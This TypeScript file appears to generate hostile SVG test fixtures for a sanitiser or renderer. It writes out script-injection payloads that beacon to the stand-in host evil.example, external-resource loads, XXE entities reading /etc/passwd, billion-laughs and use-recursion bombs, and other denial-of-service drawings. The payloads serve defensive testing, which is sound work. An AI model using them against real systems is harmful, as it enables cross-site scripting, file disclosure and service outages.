import { hostile, type HostileFile } from './hostile-file.ts';
import { packedZeros, png, pngChunk, pngHeader } from './png.ts';

const OPEN =
  '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100"';
const svg = (body: string, attributes = '') => `${OPEN} ${attributes}>${body}</svg>`;
const circle = '<circle cx="50" cy="50" r="40" fill="red"/>';
/** What a script does if it runs: the test looks for both. */
const CODE = "try{top.hacked=1}catch{};self.hacked=1;fetch('https://evil.example/ran')";
const SPY = 'https://evil.example/spy.png';

/** Drawings that want to run, to load, or never to end. */
export function svgs(): HostileFile[] {
  const bodies: Record<string, string> = { ...scripts(), ...references(), ...floods() };
  const made = Object.entries(bodies).map(([name, body]) =>
    hostile(`${name}.svg`, body.startsWith('<?') || body.startsWith('<!') ? body : svg(body)),
  );
  return [...made, ...broken()];
}

function scripts(): Record<string, string> {
  const attributes = ['onload', 'onerror', 'onclick', 'onbegin', 'onfocusin', 'onactivate'];
  const handlers = attributes.map(
    (name) => [`handler-${name}`, `<g ${name}="${CODE}">${circle}</g>`] as const,
  );
  const page = `<body xmlns="http://www.w3.org/1999/xhtml"><script>${CODE}</script><iframe src="${SPY}"/><img src="x" onerror="${CODE}"/><video autoplay="autoplay" src="${SPY}"/></body>`;
  return {
    ...Object.fromEntries(handlers),
    script: `<script>${CODE}</script>${circle}`,
    'script-cdata': `<script><![CDATA[${CODE}]]></script>${circle}`,
    'script-href': `<script href="https://evil.example/a.js"/><script xlink:href="data:text/javascript,hacked=1"/>${circle}`,
    'script-module': `<script type="module">import 'https://evil.example/a.js'</script>${circle}`,
    'foreign-object': `<foreignObject width="100" height="100">${page}</foreignObject>${circle}`,
    'link-javascript': `<a href="javascript:${CODE}">${circle}</a>`,
    animated: `<set attributeName="onload" to="${CODE}"/><animate attributeName="href" values="javascript:${CODE}" begin="0s"/>${circle}`,
    'set-href': `<image><set attributeName="href" to="${SPY}"/></image>${circle}`,
    'use-data': `<use href="data:image/svg+xml,${encodeURIComponent(svg(`<g id="x"><script>${CODE}</script></g>`))}#x"/>`,
    'html-inside': `<html xmlns="http://www.w3.org/1999/xhtml"><script>${CODE}</script></html>${circle}`,
    'xsl-sheet': `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://evil.example/a.xsl"?>${svg(circle)}`,
    'css-sheet': `<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/a.css"?>${svg(circle)}`,
  };
}

function references(): Record<string, string> {
  const nested = encodeURIComponent(
    svg(`<image href="${SPY}" width="9" height="9"/><script>${CODE}</script>`),
  );
  return {
    'image-away': `<image href="${SPY}" width="9" height="9"/>${circle}`,
    'image-xlink': `<image xlink:href="${SPY}" width="9" height="9"/>${circle}`,
    'image-file': `<image href="file:///etc/passwd" width="9" height="9"/>${circle}`,
    'image-site': `<image href="/index.html" width="9" height="9"/>${circle}`,
    'use-away': `<use href="https://evil.example/a.svg#x"/>${circle}`,
    'style-import': `<style>@import url('https://evil.example/a.css');</style>${circle}`,
    'style-font': `<style>@font-face{font-family:f;src:url('https://evil.example/f.woff2')}text{font-family:f}</style><text y="50">a</text>`,
    'style-fill': `<rect width="90" height="90" style="fill:url('https://evil.example/a.svg#p')"/>${circle}`,
    'style-background': `<foreignObject width="9" height="9"><p xmlns="http://www.w3.org/1999/xhtml" style="background:url('${SPY}')">a</p></foreignObject>`,
    'filter-image': `<filter id="f"><feImage href="${SPY}"/></filter><rect width="90" height="90" filter="url(#f)"/>`,
    'filter-away': `<rect width="90" height="90" filter="url('https://evil.example/a.svg#f')"/>`,
    'cursor-away': `<rect width="90" height="90" cursor="url('https://evil.example/c.cur'), auto"/>`,
    'image-in-data': `<image href="data:image/svg+xml,${nested}" width="90" height="90"/>`,
    'entity-file': `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg('<text y="50">&x;</text>')}`,
    'entity-away': `<!DOCTYPE svg [<!ENTITY x SYSTEM "https://evil.example/x">]>${svg('<text y="50">&x;</text>')}`,
    'entity-parameter': `<!DOCTYPE svg [<!ENTITY % p SYSTEM "https://evil.example/p.dtd"> %p;]>${svg(circle)}`,
    'dtd-away': `<!DOCTYPE svg PUBLIC "-//x//y" "https://evil.example/svg.dtd">${svg(circle)}`,
    'link-sheet': `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="https://evil.example/a.css"/>${circle}`,
  };
}

/** Ten times ten times ten … */
function powers(levels: number, ten: (level: number) => string): string {
  return Array.from({ length: levels }, (_, level) => ten(level)).join('');
}

function floods(): Record<string, string> {
  const uses = powers(30, (level) => `<g id="u${level + 1}">${`<use href="#u${level}"/>`.repeat(10)}</g>`);
  const entities = powers(12, (level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`);
  const long = 'x'.repeat(60_000);
  const patterns = powers(20, (level) => {
    const rects = `<rect width="9" height="9" fill="url(#p${level})"/>`.repeat(10);
    return `<pattern id="p${level + 1}" width="10" height="10" patternUnits="userSpaceOnUse">${rects}</pattern>`;
  });
  const hugePng = png(
    pngHeader(20_000, 20_000, { bitDepth: 1, colourType: 0 }),
    pngChunk('IDAT', packedZeros(20_000 * 2501)),
  );
  const turbulence = '<feTurbulence baseFrequency="0.5" numOctaves="200000"/>'.repeat(50);
  const filterOn = (body: string) =>
    `<filter id="f" x="0" y="0" width="1" height="1">${body}</filter><rect width="100" height="100" filter="url(#f)"/>`;
  return {
    'flood-use': `<defs><g id="u0">${circle}</g>${uses}</defs><use href="#u30"/>`,
    'flood-use-by-entity': `<!DOCTYPE svg [<!ENTITY h "href='#u">]>${svg(`<g id="u0">${circle}</g>`)}`,
    'flood-use-in-itself': `<g id="a"><use href="#a"/>${circle}</g><use href="#a"/>`,
    'flood-use-in-a-ring': `<g id="a"><use href="#b"/></g><g id="b"><use href="#c"/></g><g id="c"><use href="#a"/></g>`,
    'flood-entities': `<!DOCTYPE svg [<!ENTITY e0 "ha">${entities}]>${svg('<text y="50">&e12;</text>')}`,
    'flood-long-entity': `<!DOCTYPE svg [<!ENTITY e "${long}">]>${svg(`<text y="50">${'&e;'.repeat(100_000)}</text>`)}`,
    'flood-patterns': `<defs><pattern id="p0" width="9" height="9"/>${patterns}</defs><rect width="99" height="99" fill="url(#p20)"/>`,
    'flood-masks': `${powers(15, (level) => `<mask id="m${level + 1}">${`<rect width="9" height="9" mask="url(#m${level})"/>`.repeat(10)}</mask>`)}<rect width="99" height="99" mask="url(#m15)"/>`,
    'flood-clips': `${powers(15, (level) => `<clipPath id="c${level + 1}">${`<rect width="9" height="9" clip-path="url(#c${level})"/>`.repeat(10)}</clipPath>`)}<rect width="99" height="99" clip-path="url(#c15)"/>`,
    'flood-class': `<style>${powers(20, (level) => `.k${level + 1}{fill:url(#p${level})}`)}</style>${powers(20, (level) => `<pattern id="p${level + 1}" width="9" height="9">${`<rect width="9" height="9" class="k${level + 1}"/>`.repeat(10)}</pattern>`)}<rect width="99" height="99" fill="url(#p20)"/>`,
    'flood-markers': `<marker id="m"><path d="M0 0L9 9"/></marker><path marker-mid="url(#m)" d="M0 0${'L9 9L0 9'.repeat(300_000)}"/>`,
    'flood-depth': `${'<g>'.repeat(100_000)}${circle}${'</g>'.repeat(100_000)}`,
    'flood-elements': circle.repeat(600_000),
    'flood-attributes': `<g ${Array.from({ length: 200_000 }, (_, index) => `a${index}="1"`).join(' ')}>${circle}</g>`,
    'flood-turbulence': filterOn(turbulence),
    'flood-one-turbulence': filterOn('<feTurbulence baseFrequency="0.5" numOctaves="1000000000"/>'),
    'flood-morphology': filterOn('<feMorphology operator="dilate" radius="100000"/>'.repeat(200)),
    'flood-blur': filterOn('<feGaussianBlur stdDeviation="1000000"/>'.repeat(2000)),
    'flood-dashes': `<path d="M0 0H1e9" stroke="red" stroke-dasharray="0.000001"/>`,
    'flood-path': `<path d="M0 0${'L99 99L0 99L99 0'.repeat(200_000)}" stroke="red" fill-rule="evenodd"/>`,
    'flood-picture': `<image width="9" height="9" href="data:image/png;base64,${hugePng.toString('base64')}"/>`,
    'flood-text': `<text y="50">${'𝕬́̂̃̄'.repeat(100_000)}</text>`,
    'flood-animations': `${'<rect width="9" height="9"><animate attributeName="x" dur="1ms" repeatCount="indefinite" values="0;1"/></rect>'.repeat(20_000)}`,
  };
}

function broken(): HostileFile[] {
  return [
    hostile('huge-size.svg', svg(circle, 'viewBox="0 0 1e30 1e30"').replace('width="100"', 'width="1e30"')),
    hostile('negative-size.svg', svg(circle).replace('width="100"', 'width="-5"')),
    hostile('thin.svg', svg(circle).replace('height="100"', 'height="0.0001"')),
    hostile('no-end.svg', svg(circle).slice(0, -9)),
    hostile('no-namespace.svg', '<svg width="9" height="9"><circle r="4"/></svg>'),
    hostile('html.svg', `<!doctype html><script>${CODE}</script><svg></svg>`),
    hostile('utf-16.svg', Buffer.from(`\ufeff${svg(`<script>${CODE}</script>${circle}`)}`, 'utf16le')),
    hostile('nul.svg', svg(`${circle}\0<g/>`)),
    hostile('only-a-comment.svg', `<!-- ${'x'.repeat(1e6)} -->`),
    hostile('undefined-entity.svg', svg('<text y="50">&nothing;</text>')),
    hostile('script.png', svg(`<script>${CODE}</script>${circle}`)),
    hostile('script.jpg', svg(`<script>${CODE}</script>${circle}`)),
  ];
}
